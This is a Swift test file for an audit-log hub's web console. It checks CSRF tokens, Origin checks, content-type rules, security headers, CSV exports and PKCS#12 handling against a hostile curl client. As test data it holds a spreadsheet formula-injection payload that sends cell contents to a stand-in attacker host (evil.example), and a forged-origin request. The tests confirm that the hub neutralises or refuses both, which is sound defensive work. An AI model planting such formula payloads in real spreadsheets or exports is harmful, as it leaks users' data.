import Foundation
import KirokuClient
import KirokuHub
import KirokuControl
import KirokuPKI
import KirokuProtocol
import NIOHTTP1
import Testing

/// The web console (PROTOCOL.md §12) as people meet it: in Debian's Chromium, each role presenting the
/// PKCS#12 that `kirokuctl pki export-p12` wrote, and as a hostile client would try it with curl.
@Suite("Web console", .serialized)
struct ConsoleTests {
    /// A hub with a people register, a terminal's events (lookups, a burst of failed logins, out-of-hours work),
    /// the findings they raise, and a `.p12` for each person.
    struct Scene {
        let temp: TempDir
        let pki: TestPKI
        let hub: HubProcess
        let passphrase = "kiroku-test-passphrase"
    }

    static func scene(_ name: String) async throws -> Scene {
        let temp = try TempDir(name)
        let pki = try TestPKI(in: temp)
        _ = try pki.agent("counter-01")
        for person in ["kanri01", "kaigi01", "sousa01"] { _ = try pki.person(person) }
        let hub = try await HubProcess(pki: pki, temp: temp)
        let scene = Scene(temp: temp, pki: pki, hub: hub)
        let admin = HubQueries(
            connection: try HubConnection(
                baseURL: hub.url,
                credentials: ClientCredentials(
                    caPath: pki.caPath, certificatePath: pki.certPath(.person, "kanri01"), keyPath: pki.keyPath(.person, "kanri01"))))
        let agent = try HubConnection(
            baseURL: hub.url,
            credentials: ClientCredentials(
                caPath: pki.caPath, certificatePath: pki.certPath(.agent, "counter-01"), keyPath: pki.keyPath(.agent, "counter-01")))
        defer { Task { await admin.connection.shutdown(); await agent.shutdown() } }
        let people = "person_id,name,role,left\nkanri01,髙﨑 一郎,管理者,\nkaigi01,佐藤 花子,会議,\nsousa01,山田 太郎,操作者,\n"
        _ = try await admin.importRegister("people", csv: Array(people.utf8))

        // Saturday night: two lookups, then six failed logins within ten minutes (第20, 第22); a colleague's
        // lookup the 操作者 must not see; and one event today for the dashboard.
        var events: [Event] = []
        var previous = Event.genesis
        func add(_ time: String, _ action: String, actor: String, subject: String) {
            let event = Event(
                agent: "counter-01", seq: Int64(events.count + 1), time: time, kind: "operation", action: action, actor: actor,
                subject: subject, site: "本庁舎", attrs: [:], salt: Event.randomSalt(), prev: previous
            ).sealed()
            events.append(event)
            previous = event.hash
        }
        add("2026-11-28T23:00:00.000+09:00", "lookup", actor: "sousa01", subject: "住民票コード 90")
        add("2026-11-28T23:01:00.000+09:00", "lookup", actor: "sousa01", subject: "住民票コード 91")
        for minute in 2..<8 { add("2026-11-28T23:0\(minute):00.000+09:00", "auth_failure", actor: "sousa01", subject: "") }
        add("2026-11-27T10:00:00.000+09:00", "lookup", actor: "P1000", subject: "住民票コード 12")
        add("2026-11-27T10:01:00.000+09:00", "lookup", actor: "P1000", subject: #"=HYPERLINK("http://evil.example/?"&A1,"x")"#)
        add(Timestamp(date: Date()).rfc3339, "login", actor: "sousa01", subject: "")
        _ = try await agent.request(
            .POST, "/v1/agent/batches",
            body: Batch.encodeBody(
                agent: "counter-01", sentAt: Timestamp(date: Date()).rfc3339, headSeq: Int64(events.count),
                canonicalEvents: events.map { $0.canonicalBytes(includingHash: true) }))
        let judged = try await eventually {
            let found = try await admin.findings(status: nil, rule: nil).map(\.rule)
            return found.contains("auth_failure_burst") && found.contains("out_of_hours")
        }
        #expect(judged, "the rules raised the findings the scene needs")
        let phraseFile = temp.file("passphrase")
        try scene.passphrase.write(toFile: phraseFile, atomically: true, encoding: .utf8)
        for person in ["kanri01", "kaigi01", "sousa01"] {
            let exported = try runProgram(
                Binaries.path("kirokuctl"),
                ["pki", "export-p12", "--dir", pki.dir.path, "--id", person, "--out", temp.file("\(person).p12"), "--passphrase-file", phraseFile])
            #expect(exported.status == 0, "\(exported.stderr)")
        }
        return scene
    }

    @Test("In Chromium with each role's .p12: every page in Japanese, a finding acknowledged through its form, a hold placed and lifted, each role refused what it may not do, another site's forms refused")
    func inChromium() async throws {
        let scene = try await Self.scene("console-browser")
        defer { scene.hub.stop() }
        let screenshots = ProcessInfo.processInfo.environment["KIROKU_SCREENSHOTS"] ?? FileManager.default.currentDirectoryPath + "/.build/console-screenshots"
        let script = URL(filePath: #filePath).deletingLastPathComponent().deletingLastPathComponent().appending(path: "Browser/console_test.py").path
        let run = try runProgram("/usr/bin/env", ["python3", script, scene.hub.url, scene.temp.url.path, scene.passphrase, screenshots])
        #expect(run.status == 0, "\(run.stdout)\n\(run.stderr)")
        #expect(run.stdout.contains("console: all checks passed"), "\(run.stdout)")
    }

    @Test("With curl: form posts need the token bound to the certificate; API writes need a type no form can send; a person's .p12 opens with its passphrase only")
    func hostileClient() async throws {
        let scene = try await Self.scene("console-curl")
        defer { scene.hub.stop() }
        let pki = scene.pki
        func curl(_ person: String, _ arguments: [String]) throws -> Outcome {
            try runProgram(
                "/usr/bin/curl",
                [
                    "-sS", "--max-time", "20", "--cacert", pki.caPath, "--cert", pki.certPath(.person, person), "--key",
                    pki.keyPath(.person, person), "-w", "\n%{http_code}",
                ] + arguments)
        }
        // A form without a token, or with a made-up one: refused, the finding unchanged.
        for token in ["", "token=AAAA&"] {
            let posted = try curl("kanri01", ["--data", "\(token)reason=x", "\(scene.hub.url)/findings/1/acknowledge"])
            #expect(posted.stdout.hasSuffix("\n403") && posted.stdout.contains("cross_site_request"), "\(posted.stdout)")
        }
        // The token shown to the 管理者 works for the 管理者 (and only with Origin of the hub, if one is sent).
        let page = try curl("kanri01", ["\(scene.hub.url)/findings/1"])
        let token = try #require(page.stdout.firstMatch(of: /name="token" value="([^"]+)"/)).1
        let otherOrigin = try curl(
            "kanri01", ["-H", "Origin: https://evil.example", "--data", "token=\(token)&reason=x", "\(scene.hub.url)/findings/1/acknowledge"])
        #expect(otherOrigin.stdout.hasSuffix("\n403"), "\(otherOrigin.stdout)")
        let mine = try curl("kanri01", ["--data", "token=\(token)&reason=%E7%A2%BA%E8%AA%8D", "\(scene.hub.url)/findings/1/acknowledge"])
        #expect(mine.stdout.hasSuffix("\n303"), "\(mine.stdout)")
        let json = try curl("kanri01", ["\(scene.hub.url)/v1/findings"])
        #expect(json.stdout.contains("\"reason\":\"確認\""), "\(json.stdout)")

        // API writes: a form's type or none is refused before anything is judged; JSON is taken.
        for type in ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"] {
            let posted = try curl("kanri01", ["-H", "Content-Type: \(type)", "--data", #"{"reason":"r","subject":"s"}"#, "\(scene.hub.url)/v1/holds"])
            #expect(posted.stdout.hasSuffix("\n415") && posted.stdout.contains("unsupported_media_type"), "\(type): \(posted.stdout)")
        }
        let holds = try curl("kanri01", ["\(scene.hub.url)/v1/holds"])
        #expect(holds.stdout.hasPrefix("[]"), "\(holds.stdout)")
        let placed = try curl("kanri01", ["-H", "Content-Type: application/json", "--data", #"{"reason":"r","subject":"s"}"#, "\(scene.hub.url)/v1/holds"])
        #expect(placed.stdout.hasSuffix("\n200"), "\(placed.stdout)")

        // Pages: no script, no framing, nothing cached; a refusal is a Japanese page with the same status.
        let headers = try curl("sousa01", ["-D", "-", "-o", "/dev/null", "\(scene.hub.url)/findings"])
        #expect(headers.stdout.contains("HTTP/1.1 403"), "\(headers.stdout)")
        #expect(headers.stdout.lowercased().contains("content-security-policy: default-src 'none'"), "\(headers.stdout)")
        #expect(headers.stdout.lowercased().contains("x-frame-options: deny"), "\(headers.stdout)")
        #expect(headers.stdout.lowercased().contains("cache-control: no-store"), "\(headers.stdout)")

        // CSV: UTF-8 with BOM by default; CP932 on request, readable as Shift_JIS with the same rows.
        let csvFile = scene.temp.file("events-cp932.csv")
        let csv = try runProgram(
            "/usr/bin/curl",
            ["-sS", "-o", csvFile, "-w", "%{http_code}", "--cacert", pki.caPath, "--cert", pki.certPath(.person, "kanri01"), "--key",
             pki.keyPath(.person, "kanri01"), "\(scene.hub.url)/events.csv?encoding=cp932&actor=sousa01"])
        #expect(csv.stdout == "200")
        let sjis = try runProgram("/usr/bin/iconv", ["-f", "CP932", "-t", "UTF-8", csvFile])
        #expect(sjis.stdout.hasPrefix("日時(JST),端末,連番") && sjis.stdout.contains("山田 太郎") && sjis.stdout.components(separatedBy: "\r\n").count == 11, "\(sjis.stdout)")

        // What a hostile reviewer found, kept found: an empty Content-Type crashed the hub; `//v1/` skipped the
        // type check; a formula in a subject reached Excel; an oversized body was a 500; a broken filter
        // was dropped (widening the search); console refusals were JSON without the page headers.
        for header in ["Content-Type;", "Content-Type: ;"] {
            let empty = try curl("sousa01", ["-X", "POST", "-H", header, "\(scene.hub.url)/v1/log/checkpoint"])
            #expect(empty.stdout.hasSuffix("\n415"), "\(header): \(empty.stdout)")
        }
        let alive = try curl("sousa01", ["\(scene.hub.url)/v1/me"])
        #expect(alive.stdout.hasSuffix("\n200"), "the hub survived: \(alive.stdout)")
        let doubled = try curl(
            "kanri01", ["-H", "Content-Type: text/plain", "--data", #"{"reason":"r","subject":"s"}"#, "\(scene.hub.url)//v1/holds"])
        #expect(doubled.stdout.hasSuffix("\n415"), "\(doubled.stdout)")
        let formula = try curl("kanri01", ["\(scene.hub.url)/events.csv?actor=P1000"])
        #expect(formula.stdout.contains(#",'=HYPERLINK(""http://evil.example/?""&A1,""x"")"#) || formula.stdout.contains(#""'=HYPERLINK(""http://evil.example/?""&A1,""x"")""#), "\(formula.stdout)")
        #expect(!formula.stdout.contains(#","=HYPERLINK"#) && !formula.stdout.contains(#",=HYPERLINK"#))
        let big = try curl(
            "kanri01", ["-H", "Content-Type: application/json", "--data", "{\"reason\":\"\(String(repeating: "x", count: 20_000))\"}", "\(scene.hub.url)/v1/holds"])
        #expect(big.stdout.hasSuffix("\n413"), "\(big.stdout.suffix(200))")
        let broken = try curl("kanri01", ["\(scene.hub.url)/events?subject=%C3%28"])
        #expect(broken.stdout.hasSuffix("\n400") && broken.stdout.contains("入力に誤りがあります"), "\(broken.stdout.suffix(300))")
        let missing = try curl("kanri01", ["-D", "-", "\(scene.hub.url)/favicon.ico"])
        #expect(missing.stdout.contains("HTTP/1.1 404") && missing.stdout.lowercased().contains("content-security-policy: default-src 'none'")
            && missing.stdout.contains("見つかりません"), "\(missing.stdout)")
        let evidence = try curl("kanri01", ["-D", "-", "-o", "/dev/null", "\(scene.hub.url)/v1/evidence?actor=sousa01"])
        #expect(evidence.stdout.lowercased().contains("cache-control: no-store") && evidence.stdout.lowercased().contains("x-content-type-options: nosniff"), "\(evidence.stdout)")
        let empty = try curl(
            "kanri01",
            ["-H", "Content-Type: application/json", "--data", #"{"reason":"r","from":"2026-11-29T00:00:00.000+09:00","to":"2026-11-29T00:00:00.000+09:00"}"#,
             "\(scene.hub.url)/v1/holds"])
        #expect(empty.stdout.hasSuffix("\n400") && empty.stdout.contains("would hold nothing"), "\(empty.stdout)")

        // The .p12 opens with its passphrase (openssl as the browser's importer) and holds the person's certificate.
        let opened = try runProgram(
            "/usr/bin/openssl", ["pkcs12", "-in", scene.temp.file("kanri01.p12"), "-passin", "pass:\(scene.passphrase)", "-nokeys", "-clcerts"])
        #expect(opened.status == 0 && opened.stdout.contains("BEGIN CERTIFICATE"), "\(opened.stderr)")
        let wrong = try runProgram("/usr/bin/openssl", ["pkcs12", "-in", scene.temp.file("kanri01.p12"), "-passin", "pass:wrong", "-nokeys"])
        #expect(wrong.status != 0)
        let mode = try FileManager.default.attributesOfItem(atPath: scene.temp.file("kanri01.p12"))[.posixPermissions] as? Int
        #expect(mode == 0o600)
    }

    @Test("A register preview is what gets committed: a register changed after the preview is refused; CSV in UTF-8 or CP932, anything else refused")
    func previewThenImport() async throws {
        let temp = try TempDir("console-preview")
        let store = try HubStore.open(path: temp.file("record.sqlite"))
        let first = "card_id,holder,state,since\nC1,kanri01,active,2026-04-01\n"
        _ = try await store.importRegister(.cards, csv: first, by: "kanri01")
        let next = "card_id,holder,state,since\nC1,kanri01,lost,2026-11-01\nC2,sousa01,active,2026-11-01\nC3,,active,2026-11-01\nC4,x,broken,2026-11-01\n"
        let preview = try await store.previewRegister(.cards, csv: next)
        #expect(preview.added.map { $0["card_id"] } == ["C2"] && preview.changed.map { $0.after["state"] } == ["lost"])
        #expect(preview.refused.map(\.line) == [4, 5], "\(preview.refused)")
        // Someone else imports in between: the previewed import is refused, the register keeps theirs.
        _ = try await store.importRegister(.cards, csv: "card_id,holder,state,since\nC9,kaigi01,active,2026-11-02\n", by: "kanri02")
        let fixed = "card_id,holder,state,since\nC1,kanri01,lost,2026-11-01\nC2,sousa01,active,2026-11-01\n"
        await #expect(throws: KirokuError.self) {
            _ = try await store.importRegister(.cards, csv: fixed, by: "kanri01", expectedHeld: preview.heldDigest)
        }
        #expect(try await store.register(.cards).map { $0["card_id"] } == ["C9"])
        let again = try await store.previewRegister(.cards, csv: fixed)
        _ = try await store.importRegister(.cards, csv: fixed, by: "kanri01", expectedHeld: again.heldDigest)
        #expect(try await store.register(.cards).compactMap { $0["card_id"] }.sorted() == ["C1", "C2"])

        // Encodings: UTF-8 with or without BOM, CP932 as Excel writes it; bytes that are neither are refused.
        let text = "person_id,name,role,left\r\nkanri01,髙﨑 一郎,管理者,\r\n"
        #expect(try HubStore.decodeRegisterCSV(Array(text.utf8)) == text)
        #expect(try HubStore.decodeRegisterCSV([0xEF, 0xBB, 0xBF] + Array(text.utf8)).hasSuffix(text))
        let cp932 = try #require(text.data(using: .shiftJIS))
        #expect(try HubStore.decodeRegisterCSV(Array(cp932)) == text)
        #expect(throws: KirokuError.self) { try HubStore.decodeRegisterCSV([0x82, 0xA0, 0xFF, 0xFE, 0x80]) }
    }
}
